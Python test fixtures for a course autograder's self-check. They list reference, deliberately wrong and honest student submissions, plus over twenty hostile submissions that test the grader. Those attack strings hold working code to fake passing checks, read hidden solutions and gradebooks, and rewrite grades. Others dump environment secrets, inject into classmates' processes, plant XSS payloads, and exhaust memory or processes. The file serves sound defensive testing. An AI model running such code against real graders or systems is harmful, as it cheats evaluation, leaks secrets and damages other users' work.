"""Known submissions for the self-check: right, untouched, wrong in one known way, hostile.

Each wrong learner core is the reference solution with one edit, the kind of mistake
learners make. `breaks` lists the grade cells it must fail (every other cell must get
full points) and `says` a phrase its feedback must contain, so the self-check proves
both the points and the explanation. Edits are exact text replacements: if the
reference changes so that an edit no longer applies, the self-check says so instead of
silently testing the reference.
"""

from __future__ import annotations

from dataclasses import dataclass, field

S, R = "code/scoring.py", "code/retriever.py"

RECENCY = {"check_recency_score", "check_recency_score_hidden"}
IMPORTANCE = {"check_importance_score", "check_importance_score_hidden"}
RELEVANCE = {"check_relevance_score", "check_relevance_score_hidden"}
RETRIEVAL_SCORE = {"check_retrieval_score", "check_retrieval_score_hidden"}
RETRIEVE = {"check_retrieve", "check_retrieve_hidden"}
MILESTONE_4 = {"check_rank_memories", *RETRIEVE}
KIND_RECENCY = {"check_kind_recency_score", "check_kind_recency_score_hidden"}
RETRIEVE_BY_KIND = {"check_retrieve_by_kind", "check_retrieve_by_kind_hidden"}
SCORING = RECENCY | IMPORTANCE | RELEVANCE | RETRIEVAL_SCORE | KIND_RECENCY  # code/scoring.py
RETRIEVER = MILESTONE_4 | RETRIEVE_BY_KIND  # code/retriever.py, graded on the reference scoring
EVERYTHING = SCORING | RETRIEVER


@dataclass(frozen=True)
class Submission:
    """A student folder built from the student edition: which learner files, how edited."""

    name: str
    breaks: frozenset[str]
    says: str  # a phrase the feedback must contain ("" when nothing fails)
    solved: tuple[str, ...] = (S, R)  # files taken from the reference solution
    edits: tuple[tuple[str, str, str], ...] = ()  # (file, old text, new text)
    delete: tuple[str, ...] = ()
    extra: dict[str, str] = field(default_factory=dict)  # file: new content, not graded
    edit_check_cells: bool = False  # the learner's notebooks claim every check passed
    attack: str = ""  # code appended to code/scoring.py (__COURSE__ etc. filled in)
    links: dict[str, str] = field(default_factory=dict)  # file: what it is a symlink to
    transform: str = ""  # an honest reformatting of both files: crlf, bom, tabs
    retriever_attack: str = ""  # code appended to code/retriever.py
    folders: tuple[str, ...] = ()  # learner files replaced by a folder of that name
    nested: bool = False  # the repository one folder down, an empty code/ at the top
    alias: str = ""  # a copy under this folder name, which must be skipped, not graded
    most_seconds: float = 0.0  # grading it must take at most this long (0: no bound)


def wrong(name, file, old, new, breaks, says) -> Submission:
    return Submission(name, frozenset(breaks), says, edits=((file, old, new),))


STUB = "    raise NotImplementedError()\n"  # what the student edition has

SUBMISSIONS = [
    Submission("reference", frozenset(), ""),
    Submission("untouched", frozenset(EVERYTHING), "not implemented yet", solved=()),
    Submission(
        "milestones-1-2-only",
        frozenset(RETRIEVAL_SCORE | RETRIEVER),
        "not implemented yet",
        solved=(S,),
        edits=((S, "    w_rel, w_rec, w_imp = weights\n", STUB),),
    ),
    wrong(
        "recency-in-seconds",
        S,
        "(now - last_accessed) / SECONDS_PER_HOUR)",
        "(now - last_accessed))",
        RECENCY,  # Milestone 4 is graded on the reference scoring: independent
        "the gap was used in seconds && fix Milestone 1 first",
    ),
    wrong(
        "recency-langchain-convention",
        S,
        "return decay_rate**hours",
        "return (1 - decay_rate) ** hours",
        RECENCY,
        "LangChain",
    ),
    wrong(
        "recency-future-not-clamped",
        S,
        "max(0.0, (now - last_accessed) / SECONDS_PER_HOUR)",
        "(now - last_accessed) / SECONDS_PER_HOUR",
        RECENCY,
        "clamp the hours at 0",
    ),
    wrong(
        "importance-not-divided",
        S,
        "return importance / 10.0",
        "return float(importance)",
        IMPORTANCE,
        "divide by 10",
    ),
    wrong(
        "relevance-dot-product",
        S,
        "return max(-1.0, min(1.0, cosine))",
        "return dot",
        RELEVANCE,  # the retriever's stores use unit vectors, where dot = cosine
        "dot product",
    ),
    wrong(
        "relevance-not-clamped",
        S,
        "return max(-1.0, min(1.0, cosine))",
        "return cosine",
        RELEVANCE,  # right to 1e-6 everywhere, yet 1.0000000000000002 for one direction
        "clamp the result",
    ),
    wrong(
        "relevance-zero-vector-crash",
        S,
        "    if query_norm == 0.0 or memory_norm == 0.0:\n",
        "    if False:\n",
        RELEVANCE,
        "division by zero",
    ),
    wrong(
        "weights-swapped",
        S,
        "return w_rel * rel + w_rec * rec + w_imp * imp",
        "return w_rel * rel + w_rec * imp + w_imp * rec",
        RETRIEVAL_SCORE,
        "swapped",
    ),
    wrong(
        "ranked-worst-first",
        R,
        "key=lambda row: row.score, reverse=True)",
        "key=lambda row: row.score)",
        MILESTONE_4 | RETRIEVE_BY_KIND,  # retrieve_by_kind ranks with rank_memories
        "worst first",
    ),
    wrong(
        "ranked-ties-backwards",
        R,
        "return sorted(rows, key=lambda row: row.score, reverse=True)",
        "return sorted(rows, key=lambda row: row.score)[::-1]",
        {"check_rank_memories", "check_retrieve", *RETRIEVE_BY_KIND},  # the first k of it
        "sorting ascending and reversing",
    ),
    wrong(
        "returns-scored-rows",
        R,
        "return [row.memory for row in top]",
        "return top",
        RETRIEVE,
        "ranking rows were returned",
    ),
    wrong(
        "refresh-forgotten",
        R,
        "        row.memory.last_accessed = now",
        "        pass  # row.memory.last_accessed = now",
        RETRIEVE,
        "not refreshed",
    ),
    wrong(
        "superseded-recalled",
        R,
        "        if memory.superseded_by is not None:\n",
        "        if False:\n",
        MILESTONE_4 | RETRIEVE_BY_KIND,  # retrieve_by_kind ranks with rank_memories
        "superseded",
    ),
    wrong(
        "one-too-many",
        R,
        "decay_rate=decay_rate)[:k]",
        "decay_rate=decay_rate)[: k + 1]",
        RETRIEVE,
        "one result too many",
    ),
    wrong(
        "decay-from-created-at",
        R,
        "recency_score(now, memory.last_accessed,",
        "recency_score(now, memory.created_at,",
        MILESTONE_4,
        "created_at",
    ),
    # Milestone 5: the three mistakes of kind-aware recency, each costing only its own cells
    # (retrieve_by_kind is graded on the reference scoring), then two of its retriever.
    wrong(
        "half-life-used-as-a-rate",
        S,
        "return 0.5 ** (hours / half_life)",
        "return half_life**hours",
        KIND_RECENCY,
        "a half-life is not a decay rate && fix Milestone 5 first",
    ),
    wrong(
        "episodic-never-fades",
        S,
        "half_life = half_lives[kind]",
        'half_life = math.inf if kind == "episodic" else half_lives[kind]',
        KIND_RECENCY,
        "episodic memories never faded",
    ),
    wrong(
        "kind-ignored",
        S,
        "half_life = half_lives[kind]",
        'half_life = half_lives["episodic"]',
        KIND_RECENCY,
        "the kind was ignored",
    ),
    wrong(
        "kind-ignored-by-the-retriever",
        R,
        "kind_recency_score(\n                now, last_accessed=memory.last_accessed, "
        "kind=memory.kind, half_lives=half_lives\n            )",
        "recency_score(now, memory.last_accessed)",
        RETRIEVE_BY_KIND,
        "recency_score with one decay rate",
    ),
    wrong(
        "refresh-forgotten-by-kind",
        R,
        "        memory.last_accessed = now  # recalled: its recency restarts from here",
        "        pass  # memory.last_accessed = now",
        RETRIEVE_BY_KIND,
        "not refreshed",
    ),
    # Submissions that test the grader rather than the learner.
    Submission(
        "warnings-on-stderr",
        frozenset(),
        "",
        edits=(
            (
                S,
                "    return importance / 10.0",
                "    import sys, warnings\n"
                '    warnings.warn("a library warning", DeprecationWarning, stacklevel=1)\n'
                '    print("debug output on stderr", file=sys.stderr)\n'
                "    return importance / 10.0",
            ),
        ),
    ),
    Submission(
        "scoring-deleted",
        frozenset(SCORING),
        "is missing",
        solved=(R,),
        delete=(S,),
    ),
    Submission(
        "retriever-syntax-error",
        frozenset(RETRIEVER),
        "could not be imported",
        edits=((R, "def retrieve(", "def retrieve(:"),),
    ),
    Submission(
        "retrieve-loops-forever",
        frozenset(RETRIEVE),
        "endless loop",
        edits=(
            (
                R,
                "    top = rank_memories(",
                "    while True:\n        pass\n    top = rank_memories(",
            ),
        ),
    ),
    Submission(
        "checks-and-check-cells-edited",
        frozenset(EVERYTHING),
        "not implemented yet",
        solved=(),
        extra={
            "code/teaching/checks/__init__.py": "def run_cases(*args, **kwargs):\n    return 7\n",
            "code/teaching/checks/core.py": "def check_cases(*args, **kwargs):\n    return 7\n",
            "code/teaching/checks/m4_retriever.py": (
                "def run_scenario(*args, **kwargs):\n    return None\n"
            ),
        },
        edit_check_cells=True,
    ),
]


# Honest submissions that must score full marks however they are written.
HONEST = [
    Submission("honest-crlf", frozenset(), "", transform="crlf"),
    Submission("honest-bom", frozenset(), "", transform="bom"),
    Submission("honest-tabs", frozenset(), "", transform="tabs"),
    Submission(
        "honest-extras",
        frozenset(),
        "",
        edits=(
            (
                S,
                "def importance_score(importance: float) -> float:",
                "import functools\nimport numpy as np\n\n\ndef _helper(x: float) -> float:\n"
                "    return x\n\n\ndef importance_score(importance: float) -> float:",
            ),
            (S, "return importance / 10.0", "return np.float64(_helper(importance) / 10.0)"),
        ),
    ),
]

# Honest work that a careful learner could hand in: each must be graded on what it computes.
HONEST += [
    Submission(
        "honest-imports-embedding-helpers",
        frozenset(),
        "",
        edits=(
            (
                R,
                "from memory_store import Memory, MemoryStore\n",
                "from embedding_helpers import Embedder  # a module the course ships\n"
                "from memory_store import Memory, MemoryStore\n\n"
                "DEFAULT_EMBEDDER: Embedder | None = None  # for a type hint only\n",
            ),
        ),
    ),
    Submission(
        "honest-float32-cosine",
        frozenset(),
        "",
        edits=(
            (
                S,
                "    dot = sum(q * m for q, m in zip(query_embedding, memory_embedding))\n"
                "    query_norm = math.sqrt(sum(q * q for q in query_embedding))\n"
                "    memory_norm = math.sqrt(sum(m * m for m in memory_embedding))\n",
                "    import numpy as np\n\n"
                "    q32 = np.asarray(query_embedding, dtype=np.float32)\n"
                "    m32 = np.asarray(memory_embedding, dtype=np.float32)\n"
                "    dot = np.dot(q32, m32)  # float32 throughout, the division too\n"
                "    query_norm = np.linalg.norm(q32)\n"
                "    memory_norm = np.linalg.norm(m32)\n",
            ),
        ),
    ),
    Submission(  # an unpacking slip: refused by name; the retriever is still graded
        "honest-scoring-is-a-folder",
        frozenset(SCORING),
        "code/scoring.py was refused: it is a folder",
        folders=(S,),
    ),
    Submission(  # a script that wrote the id with its newline: one row, never two
        "honest-id-with-newline", frozenset(), "", alias="honest-id-with-newline\n"
    ),
    Submission(  # the repository unpacked one folder down, an empty code/ left at the top
        "honest-empty-code-at-the-top",
        frozenset(),
        "graded memory-lab-main/code/",
        nested=True,
    ),
]

# Attacks on the grader: each is the untouched student edition (worth 0) plus hostile code
# run when code/scoring.py is imported or called. Any point it scores is a point stolen.
# __ROOT__, __COURSE__, __FOLDER__ and __PORT__ are filled in when the self-check builds it.
_STOLEN = (
    "    src = open('__ROOT__/code/scoring.py').read()\n"
    "    exec(compile(src, 'scoring.py', 'exec'), globals())\n"
)
ATTACKS = {
    "monkeypatch-checks": (
        "import sys\nmain = sys.modules.get('__main__')\n"
        "for name in ('answer', 'number', 'judge_numbers', 'run_cell', 'check_cases'):\n"
        "    for module in list(sys.modules.values()):\n"
        "        if hasattr(module, name):\n"
        "            setattr(module, name, lambda *a, **k: {'value': 1.0})\n"
        "import math\nmath.isclose = lambda *a, **k: True\n"
    ),
    "frame-inspection": (
        "def recency_score(now, last_accessed, decay_rate=0.995):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for key in ('expected', 'case', 'cases'):\n"
        "            if key in frame.f_locals:\n"
        "                value = frame.f_locals[key]\n"
        "                return getattr(value, 'expected', value)\n"
        "        frame = frame.f_back\n"
        "    return 0.0\n"
    ),
    "always-equal": (
        "class Anything(float):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = float.__hash__\n"
        "def importance_score(importance):\n    return Anything(0.0)\n"
        "def relevance_score(q, m):\n"
        "    class Weird:\n        def __eq__(self, other):\n            return True\n"
        "    return Weird()\n"
    ),
    "reads-solution-and-hidden-tests": (
        "for path in ('__ROOT__/code/scoring.py',\n"
        "             '__COURSE__/source/milestones/code/scoring.py'):\n"
        "    try:\n"
        "        exec(compile(open(path).read(), 'scoring.py', 'exec'), globals())\n"
        "        break\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n    HIDDEN = open('__COURSE__/gradebook.db', 'rb').read()\n"
        "except OSError:\n    pass\n"
    ),
    "writes-gradebook-and-locks-it": (
        "try:\n"
        "    import sqlite3\n"
        "    db = sqlite3.connect('__COURSE__/gradebook.db', timeout=1)\n"
        "    db.execute('UPDATE grade SET auto_score = 99')\n"
        "    db.commit()\n"
        "    if os.fork() == 0:\n"
        "        db2 = sqlite3.connect('__COURSE__/gradebook.db')\n"
        "        db2.execute('BEGIN EXCLUSIVE')\n"
        "        time.sleep(30)\n"
        "        os._exit(0)\n"
        "except Exception:\n    pass\n"
    ),
    "surviving-child": (
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "    signal.signal(signal.SIGHUP, signal.SIG_IGN)\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(4)\n"
        "        try:\n"
        "            open('__COURSE__/memory-lab-grades.csv', 'w')"
        ".write('student_id,total\\nstolen,999\\n')\n"
        "        finally:\n"
        "            time.sleep(60)\n"
        "    os._exit(0)\n"
    ),
    "overwrites-classmate": (
        "try:\n"
        "    open('__FOLDER__/reference/code/scoring.py', 'w').write('raise SystemExit')\n"
        "except OSError:\n    pass\n"
    ),
    "early-exit": "def importance_score(importance):\n    os._exit(0)\n",
    "injects-into-classmates": (
        'forged = b\'{"function": "importance_score", "args": [1], "kwargs": {}}\\n\'\n'
        "for pid in os.listdir('/proc'):\n"
        "    if not pid.isdigit() or int(pid) == os.getpid():\n"
        "        continue\n"
        "    try:\n"
        "        if b'worker.py' in open(f'/proc/{pid}/cmdline', 'rb').read():\n"
        "            with open(f'/proc/{pid}/fd/0', 'wb') as stdin:\n"
        "                stdin.write(forged * 50)\n"
        "    except OSError:\n"
        "        pass\n"
    ),
    "forged-replies": (
        "def recency_score(now, last_accessed, decay_rate=0.995):\n"
        "    for fd in range(3, 16):\n"
        "        try:\n"
        "            os.write(fd, b'[' * 200000 + b'\\n{\"value\": 1.0}\\n')\n"
        "        except OSError:\n"
        "            pass\n"
        "    return 1.0\n"
    ),
    "html-injection": (
        "Bad = type('<script>alert(1)</script>', (Exception,), {})\n"
        "def importance_score(importance):\n"
        "    raise Bad('<script>alert(2)</script><img src=x onerror=alert(3)>')\n"
        "def recency_score(now, last_accessed, decay_rate=0.995):\n"
        "    return '<script>alert(4)</script>'\n"
    ),
    "prints-secrets": (
        "import sys\n"
        "secret = ' '.join(f'{k}={v}' for k, v in os.environ.items())\n"
        "for path in ('__ROOT__/.env', os.path.expanduser('~/.env')):\n"
        "    try:\n        secret += open(path).read()\n    except OSError:\n        pass\n"
        "print(secret)\nprint(secret, file=sys.stderr)\n"
        "def importance_score(importance):\n    raise ValueError(secret)\n"
    ),
    "loopback-connection": (
        "import socket\n"
        "try:\n"
        "    socket.create_connection(('127.0.0.1', __PORT__), timeout=1).sendall(b'stolen')\n"
        "except OSError:\n    pass\n"
    ),
    "huge-output": "import sys\nsys.stdout.write('x' * (64 << 20))\n",
    "hang-ignoring-sigint": (
        "def recency_score(now, last_accessed, decay_rate=0.995):\n"
        "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "    while True:\n        pass\n"
    ),
    "fork-bomb-and-memory": (
        "def relevance_score(q, m):\n"
        "    children = 0\n"
        "    try:\n"
        "        while children < 200:\n"
        "            if os.fork() == 0:\n"
        "                time.sleep(30)\n                os._exit(0)\n"
        "            children += 1\n"
        "    except OSError:\n        pass\n"
        "    hog = bytearray(4 << 30)\n"
        "    return 0.0\n"
    ),
}
HEADER = "\nimport os, signal, sys, time  # the attack's own imports\n"
ATTACK_SUBMISSIONS = [
    Submission(f"attack-{name}", frozenset(EVERYTHING), "", solved=(), attack=HEADER + code)
    for name, code in ATTACKS.items()
]

# The answer to each call is made of the previous call's inputs: a hidden input would show
# as the "got" of a later public case, if hidden cases ran before it in the same worker.
ECHO = """
SEEN = [0.0]


def _numbers(value):
    if isinstance(value, dict):
        value = list(value.values())
    if isinstance(value, (list, tuple)):
        return [x for item in value for x in _numbers(item)]
    if isinstance(value, (int, float)) and not isinstance(value, bool) and abs(value) < 1e300:
        return [float(value)]
    return []


def echo_value(args, kwargs):
    return float(sum(_numbers([list(args), kwargs])))


def _echo(*args, **kwargs):
    SEEN.append(echo_value(args, kwargs))
    return SEEN[-2]


recency_score = importance_score = relevance_score = _echo
retrieval_score = kind_recency_score = _echo
"""
# A retriever that raises from "lines of /learner/scoring.py": in the Milestone 4 run there
# is no such file (its scoring is the parent's proxy), and a crash line read from a file of
# that name must never be quoted.
CRAFTED = """
import os as _os

try:
    _REFERENCE = open('/learner/scoring.py').read().splitlines()
except OSError:
    _REFERENCE = []
_TARGETS = [n + 1 for n, line in enumerate(_REFERENCE) if line.strip().startswith('return ')]
_CALLS = []


def _crafted(*args, **kwargs):
    line = (_TARGETS or [1])[len(_CALLS) % max(1, len(_TARGETS))]
    _CALLS.append(line)
    exec(compile('\\n' * (line - 1) + 'raise ValueError()', '/learner/scoring.py', 'exec'))


rank_memories = retrieve = retrieve_by_kind = _crafted
"""
# Every function sleeps just under the case timeout: the submission's budget must stop it.
SLOW = """
def _slow(*args, **kwargs):
    time.sleep(4.7)
    return 0.0


recency_score = importance_score = relevance_score = retrieval_score = _slow
kind_recency_score = _slow
"""
# A table of the student edition's public answers (TABLE is filled in by the self-check).
TABLE = """
import json as _json

_TABLE = __TABLE__


def _looked_up(name):
    def function(*args, **kwargs):
        key = _json.dumps([name, list(args), kwargs], sort_keys=True)
        return _TABLE.get(key, 0.0)

    return function


for _name in ('recency_score', 'importance_score', 'relevance_score', 'retrieval_score',
              'kind_recency_score'):
    globals()[_name] = _looked_up(_name)
"""
TABLE_RETRIEVER = """
import json as _json
from collections import namedtuple as _namedtuple

_TABLE = __STORES__
_Row = _namedtuple('_Row', 'memory relevance recency importance score')


def _key(name, store, k, kwargs):
    return _json.dumps([name, [m.id for m in store], k, kwargs], sort_keys=True)


def rank_memories(store, query_embedding, now, **kwargs):
    ids = _TABLE.get(_key('rank_memories', store, None, kwargs), [])
    return [_Row(store.get(i), 0.8, 0.995, 0.5, 2.295) for i in ids]


def retrieve(store, query_embedding, now, k=5, **kwargs):
    name = 'retrieve_by_kind' if 'half_lives' in kwargs else 'retrieve'
    top = [store.get(i) for i in _TABLE.get(_key(name, store, k, kwargs), [])]
    for memory in top:
        memory.last_accessed = now
    return top


retrieve_by_kind = retrieve
"""
ATTACK_SUBMISSIONS += [
    Submission("attack-hidden-input-echo", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + ECHO),
    Submission("attack-crafted-traceback", frozenset(EVERYTHING), "", solved=(),
               retriever_attack=HEADER + CRAFTED),
    Submission("attack-public-answer-table", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + TABLE, retriever_attack=HEADER + TABLE_RETRIEVER),
    Submission("attack-slow-on-purpose", frozenset(EVERYTHING), "time budget", solved=(),
               attack=HEADER + SLOW, most_seconds=75.0),
]  # fmt: skip

# Kernel channels that outlive a sandbox, graded one at a time (one slot, so one uid) in a
# batch of their own, with the host's memory watched. The keyring pair: the first stores
# whatever reference scoring.py its Milestone 4 run can read (none: that run's scoring is
# the parent's proxy) in the uid's keyring; the second, and the first when regraded, would
# load it from there as their own scoring.
KEY_READER = """
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_key = _libc.syscall(250, 10, -4, b'user', b'memory-lab-reference', 0)  # KEYCTL_SEARCH @u
if _key > 0:
    _buffer = _ctypes.create_string_buffer(1 << 16)
    _size = _libc.syscall(250, 11, _key, _buffer, 1 << 16)  # KEYCTL_READ
    if _size > 0:
        exec(compile(_buffer.raw[:_size], 'scoring.py', 'exec'), globals())
"""
KEY_WRITER = """
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
try:
    _data = open('/learner/scoring.py', 'rb').read()  # the reference, in the Milestone 4 run
except OSError:
    _data = b''
if _data and b'NotImplementedError()' not in _data:
    _libc.syscall(248, b'user', b'memory-lab-reference', _data, len(_data), -4)  # add_key @u
"""
SHARED_MEMORY_BOMB = """
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
for _ in range(6):  # 6 x 256 MB, each detached at once: RLIMIT_AS never sees them together
    _id = _libc.shmget(0, 256 << 20, 0o1600)
    if _id < 0:
        break
    _at = _libc.shmat(_id, None, 0)
    if not _at or _at == _ctypes.c_void_p(-1).value:
        break
    _ctypes.memset(_at, 1, 256 << 20)
    _libc.shmdt(_ctypes.c_void_p(_at))
time.sleep(3)
"""
TMPFS_BOMB = """
_blob, _written = b'x' * (1 << 20), 0
for _folder in ('/tmp', '/dev/shm', '/', '/dev', '/learner'):
    for _n in range(1536):
        if _written >= 1536:
            break
        try:
            with open(f'{_folder}/bomb{_n}', 'wb') as _file:
                _file.write(_blob)
            _written += 1
        except OSError:
            break
time.sleep(3)
"""
MEMORY_IN_PROCESSES = """
for _ in range(6):  # 6 x 600 MB, each process under RLIMIT_AS: only a cgroup sees the sum
    if os.fork() == 0:
        try:
            _hog = bytearray(600 << 20)
            for _i in range(0, len(_hog), 4096):
                _hog[_i] = 1
        except MemoryError:
            pass
        time.sleep(4)
        os._exit(0)
time.sleep(3)
"""
KEYRING_FIRST = Submission(
    "attack-keyring-1-stores-the-reference",
    frozenset(SCORING),
    "",
    solved=(R,),
    attack=HEADER + KEY_READER,
    retriever_attack=HEADER + KEY_WRITER,
)
KERNEL = [
    KEYRING_FIRST,
    Submission("attack-keyring-2-loads-it", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + KEY_READER),
    Submission("attack-shared-memory-bomb", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + SHARED_MEMORY_BOMB),
    Submission("attack-tmpfs-bomb", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + TMPFS_BOMB),
    Submission("attack-memory-in-many-processes", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + MEMORY_IN_PROCESSES),
]  # fmt: skip
LINKS = [
    Submission(
        "attack-symlinked-files",
        frozenset(EVERYTHING),
        "refused",
        solved=(),
        links={S: "__ROOT__/code/scoring.py", R: "/proc/self/cwd/code/retriever.py"},
    ),
    Submission(
        "attack-symlinked-code-folder",
        frozenset(EVERYTHING),
        "symlinked",
        solved=(),
        links={"code": "__ROOT__/code"},
    ),
]
# Graded once with full marks (written straight into the gradebook), then resubmitted
# with a scoring.py that kills its worker: the regrade must start from zero.
RESUBMITTED = Submission(
    "attack-resubmit-after-crash",
    frozenset(SCORING),
    "",
    solved=(R,),
    attack=HEADER + "os._exit(0)\n",
)
SUBMISSIONS += HONEST + ATTACK_SUBMISSIONS + LINKS + [RESUBMITTED]
